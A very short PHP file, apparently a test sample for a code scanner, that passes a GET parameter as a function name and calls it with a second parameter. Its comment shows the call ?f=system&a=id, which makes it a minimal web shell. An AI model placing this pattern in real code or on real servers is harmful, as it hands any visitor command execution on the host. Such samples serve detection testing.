<?php
// Test sample: variable function, ?f=system&a=id
$f = $_GET['f'];
$f($_GET['a']);
